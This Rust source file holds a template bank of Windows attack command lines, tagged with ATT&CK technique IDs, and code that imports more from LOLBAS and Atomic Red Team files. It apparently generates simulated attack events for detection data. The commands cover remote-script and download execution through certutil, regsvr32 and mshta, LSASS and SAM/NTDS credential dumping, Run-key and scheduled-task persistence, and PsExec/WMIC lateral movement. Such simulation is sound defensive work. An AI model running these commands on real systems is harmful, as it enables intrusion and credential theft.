//! Attack command templates: a built-in set, optionally extended from the LOLBAS and
//! Atomic Red Team definitions under `../shared/datasets/reference`.

use crate::Error;
use std::collections::BTreeMap;
use std::path::Path;

/// Which part of a scenario a template serves.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Slot {
    Proxy,
    ScriptHost,
    Credential,
    Discovery,
    Persistence,
    Lateral,
}

#[derive(Debug, Clone, PartialEq)]
pub struct AttackTemplate {
    /// Full image path; empty means "the first word of the filled command line".
    pub exe: String,
    pub cmd: String,
    pub technique: String,
}

/// Templates per slot, in a stable order (determinism: the bank is indexed by the RNG).
#[derive(Debug, Clone, Default)]
pub struct TemplateBank {
    pub slots: BTreeMap<Slot, Vec<AttackTemplate>>,
    /// Reference templates, kept apart so a few tool-heavy technique files (AdFind, say)
    /// cannot crowd out the built-in mix: a draw takes either side with equal chance.
    pub reference: BTreeMap<Slot, Vec<AttackTemplate>>,
    /// How many templates came from the reference folder.
    pub from_reference: usize,
}

const S32: &str = r"C:\Windows\System32\";

const BUILTIN: &[(Slot, &str, &str, &str)] = &[
    (
        Slot::Proxy,
        "rundll32.exe",
        "T1218.011",
        r"rundll32.exe {PATH:.dll},DllRegisterServer",
    ),
    (
        Slot::Proxy,
        "rundll32.exe",
        "T1218.011",
        r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:{REMOTEURL:.sct}")"#,
    ),
    (
        Slot::Proxy,
        "rundll32.exe",
        "T1218.011",
        r"rundll32.exe {PATH_ABSOLUTE:.dat},StartW",
    ),
    (
        Slot::Proxy,
        "rundll32.exe",
        "T1218.011",
        r"rundll32.exe shell32.dll,Control_RunDLL {PATH_ABSOLUTE:.cpl}",
    ),
    (
        Slot::Proxy,
        "regsvr32.exe",
        "T1218.010",
        r"regsvr32.exe /s /n /u /i:{REMOTEURL:.sct} scrobj.dll",
    ),
    (
        Slot::Proxy,
        "regsvr32.exe",
        "T1218.010",
        r"regsvr32.exe /s {PATH_ABSOLUTE:.dll}",
    ),
    (
        Slot::Proxy,
        "mshta.exe",
        "T1218.005",
        r"mshta.exe {REMOTEURL:.hta}",
    ),
    (
        Slot::Proxy,
        "mshta.exe",
        "T1218.005",
        r#"mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc {B64}"":close")"#,
    ),
    (
        Slot::Proxy,
        "msiexec.exe",
        "T1218.007",
        r"msiexec.exe /q /i {REMOTEURL:.msi}",
    ),
    (
        Slot::Proxy,
        "msiexec.exe",
        "T1218.007",
        r"msiexec.exe /y {PATH_ABSOLUTE:.dll}",
    ),
    (
        Slot::Proxy,
        "cmstp.exe",
        "T1218.003",
        r"cmstp.exe /ni /s {PATH_ABSOLUTE:.inf}",
    ),
    (
        Slot::Proxy,
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe",
        "T1218.004",
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false /U {PATH_ABSOLUTE:.dll}",
    ),
    (
        Slot::Proxy,
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe",
        "T1218.009",
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe /U {PATH_ABSOLUTE:.dll}",
    ),
    (
        Slot::Proxy,
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegSvcs.exe",
        "T1218.009",
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegSvcs.exe {PATH_ABSOLUTE:.dll}",
    ),
    (
        Slot::Proxy,
        "odbcconf.exe",
        "T1218.008",
        r"odbcconf.exe /a {REGSVR {PATH_ABSOLUTE:.dll}}",
    ),
    (
        Slot::Proxy,
        "certutil.exe",
        "T1105",
        r"certutil.exe -urlcache -split -f {REMOTEURL:.exe} {PATH_ABSOLUTE:.exe}",
    ),
    (
        Slot::Proxy,
        "certutil.exe",
        "T1140",
        r"certutil -decode {PATH_ABSOLUTE:.txt} {PATH_ABSOLUTE:.exe}",
    ),
    (
        Slot::Proxy,
        "bitsadmin.exe",
        "T1197",
        r"bitsadmin /transfer {WORD} /download /priority high {REMOTEURL:.exe} {PATH_ABSOLUTE:.exe}",
    ),
    (
        Slot::ScriptHost,
        "wscript.exe",
        "T1059.005",
        r#""C:\Windows\System32\WScript.exe" "{PATH_ABSOLUTE:.vbs}""#,
    ),
    (
        Slot::ScriptHost,
        "wscript.exe",
        "T1059.007",
        r#""C:\Windows\System32\WScript.exe" "C:\Users\{USER}\Downloads\{WORD}.js""#,
    ),
    (
        Slot::ScriptHost,
        "cscript.exe",
        "T1059.005",
        r"cscript.exe //nologo //E:vbscript {PATH_ABSOLUTE:.txt}",
    ),
    (
        Slot::ScriptHost,
        "cscript.exe",
        "T1059.007",
        r"cscript //B {PATH_ABSOLUTE:.js}",
    ),
    (
        Slot::ScriptHost,
        "mshta.exe",
        "T1218.005",
        r#""C:\Windows\System32\mshta.exe" "C:\Users\{USER}\Downloads\{WORD}.hta""#,
    ),
    (
        Slot::Credential,
        "",
        "T1003.001",
        r"C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\{WORD}.dmp",
    ),
    (
        Slot::Credential,
        "rundll32.exe",
        "T1003.001",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {PID} C:\Windows\Temp\{WORD}.dmp full",
    ),
    (
        Slot::Credential,
        "reg.exe",
        "T1003.002",
        r"reg save HKLM\SAM C:\Windows\Temp\sam.save",
    ),
    (
        Slot::Credential,
        "reg.exe",
        "T1003.002",
        r"reg.exe save hklm\system C:\ProgramData\sys.hiv /y",
    ),
    (
        Slot::Credential,
        "reg.exe",
        "T1003.002",
        r"reg save hklm\security {PATH_ABSOLUTE:.hiv}",
    ),
    (
        Slot::Credential,
        "ntdsutil.exe",
        "T1003.003",
        r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\{WORD}" q q"#,
    ),
    (
        Slot::Credential,
        "esentutl.exe",
        "T1003.003",
        r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\ProgramData\{WORD}.dit",
    ),
    (Slot::Discovery, "whoami.exe", "T1033", "whoami"),
    (Slot::Discovery, "whoami.exe", "T1033", "whoami /all"),
    (Slot::Discovery, "whoami.exe", "T1033", "whoami /priv"),
    (Slot::Discovery, "net.exe", "T1087.002", "net user /domain"),
    (
        Slot::Discovery,
        "net.exe",
        "T1069.002",
        r#"net group "domain admins" /domain"#,
    ),
    (
        Slot::Discovery,
        "net.exe",
        "T1069.002",
        r#"net group "Enterprise Admins" /domain"#,
    ),
    (
        Slot::Discovery,
        "net.exe",
        "T1069.001",
        "net localgroup administrators",
    ),
    (Slot::Discovery, "net.exe", "T1135", r"net view \\{SERVER}"),
    (
        Slot::Discovery,
        "nltest.exe",
        "T1482",
        "nltest /domain_trusts /all_trusts",
    ),
    (
        Slot::Discovery,
        "nltest.exe",
        "T1018",
        "nltest /dclist:{DOMAIN}",
    ),
    (Slot::Discovery, "ipconfig.exe", "T1016", "ipconfig /all"),
    (Slot::Discovery, "systeminfo.exe", "T1082", "systeminfo"),
    (Slot::Discovery, "tasklist.exe", "T1057", "tasklist /v"),
    (Slot::Discovery, "netstat.exe", "T1049", "netstat -ano"),
    (Slot::Discovery, "quser.exe", "T1033", "quser"),
    (Slot::Discovery, "arp.exe", "T1016", "arp -a"),
    (Slot::Discovery, "route.exe", "T1016", "route print"),
    (
        Slot::Discovery,
        "wmic.exe",
        "T1518.001",
        r"wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName",
    ),
    (
        Slot::Discovery,
        "nslookup.exe",
        "T1018",
        "nslookup -type=SRV _ldap._tcp.dc._msdcs.{DOMAIN}",
    ),
    (
        Slot::Persistence,
        "schtasks.exe",
        "T1053.005",
        r#"schtasks /create /sc onlogon /tn "{WORD}" /tr "{PATH_ABSOLUTE:.exe}" /rl highest /f"#,
    ),
    (
        Slot::Persistence,
        "schtasks.exe",
        "T1053.005",
        r#"schtasks.exe /Create /SC MINUTE /MO 30 /TN "Microsoft\Windows\{WORD}" /TR "powershell -w hidden -enc {B64}" /F"#,
    ),
    (
        Slot::Persistence,
        "reg.exe",
        "T1547.001",
        r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {WORD} /t REG_SZ /d "{PATH_ABSOLUTE:.exe}" /f"#,
    ),
    (
        Slot::Persistence,
        "reg.exe",
        "T1547.001",
        r#"reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v {WORD} /d "rundll32.exe {PATH_ABSOLUTE:.dll},Start" /f"#,
    ),
    (
        Slot::Persistence,
        "sc.exe",
        "T1543.003",
        r#"sc create {WORD} binPath= "{PATH_ABSOLUTE:.exe}" start= auto"#,
    ),
    (
        Slot::Lateral,
        "",
        "T1569.002",
        r"C:\Users\Public\PsExec64.exe \\{SERVER} -accepteula -s cmd.exe /c {CMD}",
    ),
    (
        Slot::Lateral,
        "wmic.exe",
        "T1047",
        r#"wmic /node:{SERVER} process call create "cmd.exe /c {CMD}""#,
    ),
    (
        Slot::Lateral,
        "winrs.exe",
        "T1021.006",
        r"winrs -r:{SERVER} {CMD}",
    ),
    (
        Slot::Lateral,
        "sc.exe",
        "T1021.002",
        r#"sc \\{SERVER} create {WORD} binPath= "{PATH_SMB:.exe}""#,
    ),
];

impl TemplateBank {
    pub fn builtin() -> TemplateBank {
        let mut slots: BTreeMap<Slot, Vec<AttackTemplate>> = BTreeMap::new();
        for (slot, exe, tech, cmd) in BUILTIN {
            slots.entry(*slot).or_default().push(AttackTemplate {
                exe: system_path(exe),
                cmd: (*cmd).to_owned(),
                technique: (*tech).to_owned(),
            });
        }
        TemplateBank {
            slots,
            reference: BTreeMap::new(),
            from_reference: 0,
        }
    }

    pub fn get(&self, slot: Slot) -> &[AttackTemplate] {
        self.slots.get(&slot).map(Vec::as_slice).unwrap_or(&[])
    }

    pub fn get_reference(&self, slot: Slot) -> &[AttackTemplate] {
        self.reference.get(&slot).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Built-ins plus every usable LOLBAS / Atomic Red Team command under `dir`.
    pub fn with_reference(dir: &Path) -> Result<TemplateBank, Error> {
        let mut bank = TemplateBank::builtin();
        if !dir.is_dir() {
            return Err(Error::io(
                dir,
                std::io::Error::new(std::io::ErrorKind::NotFound, "reference folder not found"),
            ));
        }
        let mut files = Vec::new();
        collect_yaml(dir, &mut files).map_err(|e| Error::io(dir, e))?;
        files.sort();
        for f in files {
            let Ok(text) = std::fs::read_to_string(&f) else {
                continue;
            };
            // Reference files are third-party: one that does not parse is skipped, not fatal.
            let Ok(doc) = serde_yaml::from_str::<serde_yaml::Value>(&text) else {
                continue;
            };
            for (slot, t) in lolbas_templates(&doc)
                .into_iter()
                .chain(atomic_templates(&doc))
            {
                bank.reference.entry(slot).or_default().push(t);
                bank.from_reference += 1;
            }
        }
        Ok(bank)
    }
}

fn collect_yaml(dir: &Path, out: &mut Vec<std::path::PathBuf>) -> std::io::Result<()> {
    for e in std::fs::read_dir(dir)? {
        let p = e?.path();
        if p.is_dir() {
            collect_yaml(&p, out)?;
        } else if matches!(p.extension().and_then(|x| x.to_str()), Some("yml" | "yaml")) {
            out.push(p);
        }
    }
    Ok(())
}

/// Where a bare binary name lives; anything not shipped with Windows is an attacker tool
/// dropped in a user-writable folder.
pub fn system_path(exe: &str) -> String {
    if exe.is_empty() || exe.contains('\\') {
        return exe.to_owned();
    }
    let l = exe.to_ascii_lowercase();
    const TOOLS: &[&str] = &[
        "procdump.exe",
        "procdump64.exe",
        "psexec.exe",
        "psexec64.exe",
        "mimikatz.exe",
    ];
    if TOOLS.contains(&l.as_str()) {
        return format!(r"C:\Users\Public\{exe}");
    }
    if l == "powershell.exe" {
        return r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe".into();
    }
    if matches!(
        l.as_str(),
        "installutil.exe" | "regasm.exe" | "regsvcs.exe" | "msbuild.exe" | "csc.exe"
    ) {
        return format!(r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\{exe}");
    }
    format!("{S32}{exe}")
}

/// LOLBAS binaries whose abuse is the proxy-execution family.
const PROXY_BINARIES: &[(&str, &str)] = &[
    ("rundll32.exe", "T1218.011"),
    ("regsvr32.exe", "T1218.010"),
    ("mshta.exe", "T1218.005"),
    ("msiexec.exe", "T1218.007"),
    ("cmstp.exe", "T1218.003"),
    ("installutil.exe", "T1218.004"),
    ("regasm.exe", "T1218.009"),
    ("regsvcs.exe", "T1218.009"),
    ("odbcconf.exe", "T1218.008"),
    ("certutil.exe", "T1105"),
    ("bitsadmin.exe", "T1197"),
];

fn lolbas_templates(doc: &serde_yaml::Value) -> Vec<(Slot, AttackTemplate)> {
    let Some(name) = doc.get("Name").and_then(|v| v.as_str()) else {
        return Vec::new();
    };
    let lname = name.to_ascii_lowercase();
    let Some((_, default_tech)) = PROXY_BINARIES.iter().find(|(b, _)| *b == lname) else {
        return Vec::new();
    };
    let stem = lname.trim_end_matches(".exe");
    let mut out = Vec::new();
    for c in doc
        .get("Commands")
        .and_then(|v| v.as_sequence())
        .into_iter()
        .flatten()
    {
        let Some(cmd) = c.get("Command").and_then(|v| v.as_str()) else {
            continue;
        };
        let first = cmd
            .split_whitespace()
            .next()
            .unwrap_or("")
            .trim_matches('"')
            .to_ascii_lowercase();
        if !(first == lname || first == stem || first.ends_with(&format!("\\{lname}")))
            || cmd.contains('\n')
        {
            continue;
        }
        let tech = match c.get("MitreID").and_then(|v| v.as_str()) {
            Some(t) if t.starts_with("T1218") => t.to_owned(),
            _ => (*default_tech).to_owned(),
        };
        out.push((
            Slot::Proxy,
            AttackTemplate {
                exe: system_path(name),
                cmd: cmd.trim().to_owned(),
                technique: tech,
            },
        ));
    }
    out
}

fn slot_for_technique(t: &str) -> Option<Slot> {
    let base = t.split('.').next().unwrap_or(t);
    Some(match (base, t) {
        (_, "T1003.001" | "T1003.002" | "T1003.003") => Slot::Credential,
        (
            "T1087" | "T1082" | "T1016" | "T1069" | "T1033" | "T1049" | "T1057" | "T1018" | "T1482"
            | "T1135",
            _,
        ) => Slot::Discovery,
        (_, "T1053.005" | "T1547.001" | "T1543.003") => Slot::Persistence,
        (_, "T1021.002" | "T1021.006" | "T1569.002") => Slot::Lateral,
        (_, "T1059.005" | "T1059.007") => Slot::ScriptHost,
        ("T1218", _) => Slot::Proxy,
        _ => return None,
    })
}

fn atomic_templates(doc: &serde_yaml::Value) -> Vec<(Slot, AttackTemplate)> {
    let Some(tech) = doc.get("attack_technique").and_then(|v| v.as_str()) else {
        return Vec::new();
    };
    let Some(slot) = slot_for_technique(tech) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for t in doc
        .get("atomic_tests")
        .and_then(|v| v.as_sequence())
        .into_iter()
        .flatten()
    {
        let windows = t
            .get("supported_platforms")
            .and_then(|v| v.as_sequence())
            .is_some_and(|s| s.iter().any(|p| p.as_str() == Some("windows")));
        let exec = t.get("executor");
        if !windows
            || exec
                .and_then(|e| e.get("name"))
                .and_then(|v| v.as_str())
                .map(str::trim)
                != Some("command_prompt")
        {
            continue;
        }
        let Some(cmd) = exec.and_then(|e| e.get("command")).and_then(|v| v.as_str()) else {
            continue;
        };
        let lines: Vec<&str> = cmd
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty())
            .collect();
        // Multi-line scripts are not one process's command line.
        let [line] = lines.as_slice() else { continue };
        if line.len() > 400 || line.contains('&') || line.contains('|') || line.starts_with('@') {
            continue;
        }
        let line = substitute_atomic_args(line, t.get("input_arguments"));
        let first = line
            .split_whitespace()
            .next()
            .unwrap_or("")
            .trim_matches('"');
        let exe = if first.starts_with('{') || first.contains('\\') {
            String::new()
        } else {
            let n = if first.to_ascii_lowercase().ends_with(".exe") {
                first.to_owned()
            } else {
                format!("{first}.exe")
            };
            // Only binaries Windows ships (or the known tools) — not shell built-ins like `echo`.
            if !n
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '_' || c == '-')
                || is_builtin(&n)
            {
                continue;
            }
            system_path(&n.to_ascii_lowercase())
        };
        out.push((
            slot,
            AttackTemplate {
                exe,
                cmd: line,
                technique: tech.to_owned(),
            },
        ));
    }
    out
}

fn is_builtin(n: &str) -> bool {
    matches!(
        n.to_ascii_lowercase().trim_end_matches(".exe"),
        "echo"
            | "set"
            | "copy"
            | "del"
            | "dir"
            | "type"
            | "mkdir"
            | "md"
            | "cd"
            | "start"
            | "call"
            | "if"
            | "for"
            | "move"
            | "ren"
            | "rmdir"
            | "rd"
            | "cls"
            | "exit"
            | "pushd"
            | "popd"
    )
}

/// Rewrite `#{arg}` into our placeholder syntax, choosing a kind from the argument's type
/// and removing lab tells ("PathToAtomicsFolder", "atomic") that no benign event shares.
fn substitute_atomic_args(line: &str, args: Option<&serde_yaml::Value>) -> String {
    let mut s = line.to_owned();
    if let Some(map) = args.and_then(|a| a.as_mapping()) {
        for (k, v) in map {
            let Some(k) = k.as_str() else { continue };
            let ty = v
                .get("type")
                .and_then(|t| t.as_str())
                .unwrap_or("string")
                .to_ascii_lowercase();
            let default = match v.get("default") {
                Some(serde_yaml::Value::String(d)) => d.clone(),
                Some(serde_yaml::Value::Number(n)) => n.to_string(),
                _ => String::new(),
            };
            let ext = default
                .rsplit_once('.')
                .map(|(_, e)| e)
                .filter(|e| e.len() <= 4 && !e.contains('\\'))
                .unwrap_or("");
            let ext = if ext.is_empty() {
                String::new()
            } else {
                format!(":.{ext}")
            };
            let rep = if ty == "url" {
                format!("{{REMOTEURL{ext}}}")
            } else if ty == "path"
                || default.contains("PathToAtomicsFolder")
                || default.contains("ExternalPayloads")
            {
                format!("{{PATH_ABSOLUTE{ext}}}")
            } else {
                clean(&default)
            };
            s = s.replace(&format!("#{{{k}}}"), &rep);
        }
    }
    clean(&s)
}

fn clean(s: &str) -> String {
    let mut out = s
        .replace(
            r"PathToAtomicsFolder\..\ExternalPayloads",
            r"C:\ProgramData",
        )
        .replace("PathToAtomicsFolder", r"C:\ProgramData");
    for tell in [
        "AtomicRedTeam",
        "atomicredteam",
        "ATOMIC",
        "Atomic",
        "atomic",
    ] {
        out = out.replace(tell, "{WORD}");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_bank_covers_every_slot() {
        let b = TemplateBank::builtin();
        for s in [
            Slot::Proxy,
            Slot::ScriptHost,
            Slot::Credential,
            Slot::Discovery,
            Slot::Persistence,
            Slot::Lateral,
        ] {
            assert!(!b.get(s).is_empty(), "{s:?}");
        }
        let odbc = b
            .get(Slot::Proxy)
            .iter()
            .find(|t| t.exe.ends_with("odbcconf.exe"))
            .unwrap();
        assert_eq!(odbc.cmd, "odbcconf.exe /a {REGSVR {PATH_ABSOLUTE:.dll}}");
    }

    #[test]
    fn atomic_arguments_become_placeholders_without_lab_tells() {
        let doc: serde_yaml::Value = serde_yaml::from_str(
            r##"
attack_technique: T1003.001
atomic_tests:
- name: x
  supported_platforms: [windows]
  input_arguments:
    output_file: {type: path, default: 'C:\Windows\Temp\lsass_dump.dmp'}
    procdump_exe: {type: path, default: 'PathToAtomicsFolder\..\ExternalPayloads\procdump.exe'}
  executor:
    name: command_prompt
    command: |
      "#{procdump_exe}" -accepteula -ma lsass.exe #{output_file}
"##,
        )
        .unwrap();
        let t = atomic_templates(&doc);
        assert_eq!(t.len(), 1);
        assert_eq!(t[0].0, Slot::Credential);
        assert_eq!(
            t[0].1.cmd,
            r#""{PATH_ABSOLUTE:.exe}" -accepteula -ma lsass.exe {PATH_ABSOLUTE:.dmp}"#
        );
        assert!(t[0].1.exe.is_empty());
    }

    #[test]
    fn reference_folder_adds_templates_when_present() {
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/datasets/reference");
        if !dir.is_dir() {
            eprintln!("skipping: {} not present", dir.display());
            return;
        }
        let b = TemplateBank::with_reference(&dir).unwrap();
        assert!(b.from_reference > 50, "{}", b.from_reference);
        assert!(b
            .get_reference(Slot::Proxy)
            .iter()
            .any(|t| t.exe.ends_with("Certutil.exe") || t.exe.ends_with("certutil.exe")));
        for ts in b.reference.values() {
            for t in ts {
                assert!(!t.cmd.contains("#{"), "{}", t.cmd);
                assert!(!t.cmd.to_ascii_lowercase().contains("atomic"), "{}", t.cmd);
            }
        }
    }
}
